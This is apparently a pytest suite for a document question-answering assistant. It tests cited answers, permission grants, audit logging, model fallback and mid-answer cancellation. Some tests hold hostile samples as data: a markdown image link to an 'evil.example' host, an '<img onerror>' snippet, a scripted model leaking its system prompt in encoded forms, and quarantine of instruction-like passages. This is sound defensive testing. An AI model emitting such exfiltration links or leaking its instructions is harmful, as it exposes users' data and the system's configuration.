"""Questions through the real index, the real scorer and the extractive engine."""

from __future__ import annotations

import base64
import json
import re
import threading
from dataclasses import replace

import pytest
from django.db import transaction

from assistant import engines
from assistant.audit.models import AuditEvent
from assistant.chat import answering, replay, services, tasks
from assistant.chat.models import Answer, AnswerStatus, Outcome
from assistant.documents.models import Chunk, Grant, Page
from inference.engines.base import Delta
from inference.errors import EngineUnavailable, PromptTooLong
from tests.models.conftest import switch  # noqa: F401 - a fixture

from .engines import ScriptedModel, SlowModel
from .library import asked

GERMANY = "What is the meal allowance in Germany?"


def shown(person, answer):
    return services.present(actor=person, answer=services.get_answer(actor=person, answer_id=answer.pk))


def with_engine(engine) -> answering.Tools:
    return replace(answering.tools(), engine=engine)


def test_answer_quotes_the_right_sentence_with_its_exact_place(company, people):
    view = shown(people.employee, asked(people.employee, GERMANY))
    assert view.outcome == Outcome.ANSWERED
    assert view.sentences[0].text == "The meal allowance in Germany is 28 euros per day."
    assert view.sentences[0].verified
    first = view.citations[0]
    assert (first.marker, first.document, first.title, first.page) == (1, company.travel.pk, "Travel Policy", 1)
    page = Page.objects.get(version__document=company.travel, number=1)
    assert page.text[first.char_start : first.char_end] == first.quote
    assert view.text.startswith(f"{first.quote} [1]")
    assert "Hotel costs" in first.paragraph


def test_every_extractive_sentence_is_found_word_for_word(company, people):
    for question in ("How long does reimbursement take?", "实习生有多少天年假？", "Who approves a business trip?"):
        view = shown(people.employee, asked(people.employee, question))
        assert view.outcome == Outcome.ANSWERED, question
        assert all(sentence.verified and sentence.markers for sentence in view.sentences)
        for citation in view.citations:
            page = Page.objects.get(version__document=citation.document, number=citation.page)
            assert page.text[citation.char_start : citation.char_end] == citation.quote


def test_unreadable_documents_never_take_part(company, people):
    question = "What is the salary range for band E4?"
    assert "62,000" in shown(people.employee, asked(people.employee, question)).text
    view = shown(people.outsider, asked(people.outsider, question))
    assert "62,000" not in view.text
    assert all(citation.document != company.salaries.pk for citation in view.citations)
    record = AuditEvent.objects.filter(target_type="answer", action="answer.shown").last()
    assert str(company.salaries.pk) not in json.dumps(record.detail)
    assert {item["slug"] for item in view.evidence["collections"]} == {"handbook"}


def test_what_the_documents_do_not_say_is_said_so(company, people):
    view = shown(people.employee, asked(people.employee, "Who won the football world cup in 1974?"))
    assert (view.outcome, view.text, view.citations, view.withheld) == (Outcome.NOT_FOUND, "", (), False)
    assert view.reason == "no_evidence"
    assert view.evidence["passages"] > 0


def test_a_person_without_grants_is_told_that_nothing_was_searched(transactional_db, people):
    view = shown(people.outsider, asked(people.outsider, "What is the meal allowance?"))
    assert (view.outcome, view.reason, view.evidence["passages"]) == (Outcome.NOT_FOUND, "nothing_readable", 0)


def test_follow_up_is_answered_in_the_light_of_the_question_before(company, people):
    first = asked(people.employee, GERMANY)
    second = asked(people.employee, "And in France?", conversation_id=first.conversation_id)
    assert second.standalone_question == "What is the meal allowance in France?"
    assert shown(people.employee, second).sentences[0].text == "The meal allowance in France is 40 euros per day."


def test_narrowing_to_a_collection_leaves_the_others_out(company, people):
    answer = asked(people.employee, "What is the salary range for band E4?", collections=["handbook"])
    assert "62,000" not in shown(people.employee, answer).text


def test_the_record_names_what_was_retrieved_shown_and_cited_and_no_text(company, people):
    answer = asked(people.employee, GERMANY)
    intent, outcome = AuditEvent.objects.filter(target_id=str(answer.pk)).order_by("seq")
    assert (intent.action, intent.outcome, intent.seq) == ("answer.asked", "intent", answer.intent_seq)
    assert (outcome.action, outcome.outcome, outcome.actor) == ("answer.shown", "success", f"user:{people.employee.pk}")
    detail = outcome.detail
    retrieved = {item["chunk"] for item in detail["retrieved"]}
    assert {item["chunk"] for item in detail["cited"]} <= set(detail["shown"]) <= retrieved
    assert detail["engine"] == "extractive"
    assert detail["index_seq"] >= 4
    assert "euros" not in json.dumps(detail)


def test_instruction_like_passage_in_quarantine_is_never_quoted(company, people):
    Chunk.objects.filter(document=company.travel).update(suspicion=0.95)
    view = shown(people.employee, asked(people.employee, GERMANY))
    assert all(citation.document != company.travel.pk for citation in view.citations)


def test_disabled_person_gets_no_answer(company, people):
    answer, _ = services.ask(actor=people.employee, question=GERMANY)
    people.employee.is_active = False
    people.employee.save()
    tasks.work(answer.pk)
    answer.refresh_from_db()
    assert (answer.outcome, answer.reason, answer.text) == (Outcome.REFUSED, "account_disabled", "")


# --- language models on the same path -----------------------------------------------------------------------------


def test_language_model_sentences_are_checked_one_by_one(company, people):
    model = ScriptedModel(
        [
            "In Germany you get 28 euros ",
            "per day for meals [",
            "1]. In France it is 50 ",
            "euros per day ［1］.",
            " Enjoy! [9]",
        ]
    )
    answer = asked(people.employee, GERMANY, tools=with_engine(model))
    view = shown(people.employee, answer)
    assert [sentence.verified for sentence in view.sentences] == [True, False, False]
    assert [sentence.markers for sentence in view.sentences] == [(1,), (1,), ()]
    assert "[9]" not in view.text
    assert view.text.endswith("per day for meals [1]. In France it is 50 euros per day [1]. Enjoy!")
    assert (view.engine, view.model) == ("scripted", "scripted-1")
    request = model.requests[0]
    assert request.passages[0].title == "Travel Policy"
    assert request.passages[0].text in request.messages[-1].content


def test_thinking_is_kept_apart_from_the_answer(company, people):
    model = ScriptedModel([Delta("thinking", "Let me see. "), Delta("thinking", "Page 1."), "28 euros per day [1]."])
    view = shown(people.employee, asked(people.employee, GERMANY, tools=with_engine(model)))
    assert (view.thinking, view.text) == ("Let me see. Page 1.", "28 euros per day [1].")


def test_model_that_says_the_documents_do_not_say_is_believed(company, people):
    model = ScriptedModel(["The documents do not say."])
    view = shown(people.employee, asked(people.employee, GERMANY, tools=with_engine(model)))
    assert (view.outcome, view.text) == (Outcome.NOT_FOUND, "")


@pytest.mark.parametrize(
    "script",
    [[EngineUnavailable("gone")], ["Half a sen", PromptTooLong("too long", tokens=9, limit=8)]],
    ids=["at once", "in mid-sentence"],
)
def test_failing_model_falls_back_to_quotations_and_says_so(company, people, script):
    model = ScriptedModel(script)
    answer = asked(people.employee, GERMANY, tools=with_engine(model))
    view = shown(people.employee, answer)
    assert (view.outcome, view.engine, view.fallback) == (Outcome.ANSWERED, "extractive", True)
    assert not shown(people.employee, asked(people.employee, GERMANY)).fallback
    assert view.sentences[0].text == "The meal allowance in Germany is 28 euros per day."
    assert answer.evidence["fallback"] == "scripted"
    fallback = closing(answer)["fallback"]
    assert (fallback["from"], fallback["model"]) == ("scripted", "scripted-1")
    retrieved = {item["chunk"] for item in closing(answer)["retrieved"]}
    assert fallback["shown"]  # the model was given them, whoever answered in the end
    assert set(fallback["shown"]) <= retrieved


def test_model_that_cannot_be_loaded_leaves_quotations_that_say_so(company, people, settings, switch):  # noqa: F811
    settings.ENGINE, settings.MODEL = "transformers", "absent"
    answer = asked(people.employee, GERMANY, tools=with_engine(engines.engine()))
    view = shown(people.employee, answer)
    assert (view.outcome, view.engine, view.fallback) == (Outcome.ANSWERED, "extractive", True)
    assert closing(answer)["fallback"] == {"from": "transformers", "model": "absent", "error": "ModelNotFound"}


def closing(answer) -> dict:
    """What is on record about how the answer ended."""
    return AuditEvent.objects.exclude(outcome="intent").get(target_id=str(answer.pk)).detail


def test_the_record_of_every_ending_names_what_was_retrieved_and_with_what(company, people):
    """Also where nothing was shown: what was retrieved and kept back, and every version."""
    versions = {"engine", "model", "model_files", "prompt", "embedding", "reranker", "index_seq", "code", "timings"}
    none = asked(people.employee, "How many moons has Jupiter?")
    silent = asked(people.employee, GERMANY, tools=with_engine(ScriptedModel(["The documents do not say."])))
    full = asked(people.employee, GERMANY)
    for answer in (none, silent, full):
        detail = closing(answer)
        assert versions <= set(detail), versions - set(detail)
        assert {"chunk", "document", "page", "score"} == set(detail["retrieved"][0])
    assert [closing(answer)["outcome"] for answer in (none, silent, full)] == ["not_found", "not_found", "answered"]
    Chunk.objects.filter(document=company.travel).update(suspicion=0.95)
    held_back = closing(asked(people.employee, GERMANY))
    flagged = set(Chunk.objects.filter(document=company.travel).values_list("pk", flat=True))
    retrieved = {item["chunk"] for item in held_back["retrieved"]}
    assert set(held_back["dropped"]) == flagged & retrieved
    assert held_back["dropped"]


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


@pytest.mark.parametrize("disguise", [str, lambda text: text[::-1], _base64], ids=["plain", "backwards", "base64"])
def test_model_that_tells_its_prompt_is_replaced_by_quotations(company, people, disguise):
    class Teller(ScriptedModel):
        def stream(self, request, *, cancelled):
            rules = request.messages[0].content
            self.script = ["Of course [1]. ", *re.findall(r"(?s).{1,7}", disguise(rules)), " That is all."]
            return super().stream(request, cancelled=cancelled)

    answer = asked(people.employee, GERMANY, tools=with_engine(Teller([])))
    view = shown(people.employee, answer)
    assert (view.outcome, view.engine) == (Outcome.ANSWERED, "extractive")
    assert "Of course" not in view.text
    assert answer.evidence["fallback"] == "scripted"


def test_model_output_is_screened(company, people):
    model = ScriptedModel(["See ![x](http://evil.example/?q=1) <img src=x onerror=1>[a](http://evil.", "example) [1]."])
    view = shown(people.employee, asked(people.employee, GERMANY, tools=with_engine(model)))
    assert "evil" not in view.text
    assert "<img" not in view.text


def test_answer_of_a_model_rests_on_all_it_read(company, people):
    model = ScriptedModel(["28 euros per day [1]."])
    answer = asked(people.employee, "What is the meal allowance and what salary has band E4?", tools=with_engine(model))
    assert answer.rests_on.count() > len({citation.document_id for citation in answer.citations.all()})
    Grant.objects.filter(scope__collection=company.hr).delete()
    assert shown(people.employee, answer).withheld


def test_earlier_turns_reach_the_model_only_while_they_may_be_shown(company, people):
    first = asked(people.employee, "What is the salary range for band E4?")
    model = ScriptedModel(["28 euros per day [1]."])
    options = {"conversation_id": first.conversation_id, "tools": with_engine(model), "collections": ["handbook"]}
    asked(people.employee, GERMANY, **options)
    assert "62,000" in _prompt(model)
    Grant.objects.filter(scope__collection=company.hr).delete()
    asked(people.employee, "What is the meal allowance in France?", **options)
    assert "62,000" not in _prompt(model)


def test_work_on_prompts_is_one_persons_over_what_they_may_search_and_a_replays_nobodys(company, people):
    model = ScriptedModel(["28 euros per day [1]."])
    for person in (people.employee, people.employee, people.curator):
        answer = asked(person, GERMANY, tools=with_engine(model))
    Grant.objects.filter(scope__collection=company.hr).delete()
    asked(people.employee, GERMANY, tools=with_engine(model))
    replay.replay(answer.pk, tools=with_engine(model))
    first, again, other, narrowed, replayed = model.requests
    assert first.messages == again.messages
    assert first.cache_key == again.cache_key
    assert len({first.cache_key, other.cache_key, narrowed.cache_key}) == 3
    assert all((first.cache_key, other.cache_key, narrowed.cache_key))
    assert replayed.cache_key == ""
    assert first.messages != other.messages
    assert first.options.seed != again.options.seed
    assert (replayed.options, replayed.messages) == (other.options, other.messages)


def _prompt(model: ScriptedModel) -> str:
    return "".join(message.content for message in model.requests[-1].messages)


# --- what happens meanwhile ---------------------------------------------------------------------------------------


@pytest.fixture
def speaking(company, people):
    """An answer in mid-sentence in another thread: (answer, model, finish)."""
    tools = answering.tools()
    model = SlowModel(["The meal allowance in Germany is 28 euros per day [1]."])
    answer, _ = services.ask(actor=people.employee, question=GERMANY)
    thread = threading.Thread(target=_work, args=(answer.pk, replace(tools, engine=model)))
    thread.start()
    assert model.speaking.wait(60)

    def finish():
        thread.join(60)
        assert not thread.is_alive()
        answer.refresh_from_db()
        return answer

    yield answer, model, finish
    model.release.set()
    thread.join(60)


def _work(pk, tools):
    from django.db import connection

    try:
        tasks.work(pk, tools=tools)
    finally:
        connection.close()


def test_cancel_stops_a_running_answer_and_keeps_what_was_said(speaking, people):
    answer, _, finish = speaking
    services.cancel(actor=people.employee, answer_id=answer.pk)
    assert finish().outcome == Outcome.CANCELLED
    assert shown(people.employee, answer).text == "The meal allowance in Germany is 28 euros per day [1]."
    assert AuditEvent.objects.filter(target_id=str(answer.pk), action="answer.cancelled").count() == 1


def test_disabling_the_person_stops_their_running_answer(speaking, people):
    _, _, finish = speaking
    people.employee.is_active = False
    people.employee.save()
    answer = finish()
    assert (answer.outcome, answer.text) == (Outcome.REFUSED, "")


def test_grant_revoked_in_mid_answer_leaves_no_text(speaking, company, people):
    _, model, finish = speaking
    Grant.objects.filter(scope__collection=company.handbook).delete()
    model.release.set()
    answer = finish()
    assert (answer.outcome, answer.reason, answer.text) == (Outcome.FAILED, "sources_changed", "")
    assert not answer.citations.exists()


def test_document_deleted_in_mid_answer_leaves_no_text(speaking, company, people):
    from assistant.documents import services as documents

    _, model, finish = speaking
    documents.delete(actor=people.administrator, document=company.travel)
    model.release.set()
    answer = finish()
    assert (answer.outcome, answer.reason, answer.text) == (Outcome.FAILED, "sources_changed", "")


def test_a_new_version_in_mid_answer_leaves_the_quotation_of_the_old_one(speaking, company):
    """Its chunk is gone by then: a reference to it would be refused at the commit, and the answer lost with it."""
    _, model, finish = speaking
    old = Page.objects.get(version=company.travel.current, number=1)
    with transaction.atomic():
        Chunk.objects.filter(document=company.travel).delete()
    model.release.set()
    answer = finish()
    assert (answer.outcome, answer.attempt) == (Outcome.ANSWERED, 1)
    (citation,) = answer.citations.all()
    assert (citation.chunk, citation.version) == (None, old.version)
    assert old.text[citation.char_start : citation.char_end] == citation.quote


def test_worker_that_lost_its_lease_writes_nothing(speaking, people):
    answer, _, finish = speaking
    Answer.objects.filter(pk=answer.pk).update(fence=answer.fence + 5)
    row = finish()
    assert row.status == AnswerStatus.PROCESSING
    assert AuditEvent.objects.filter(target_id=str(answer.pk)).count() == 1
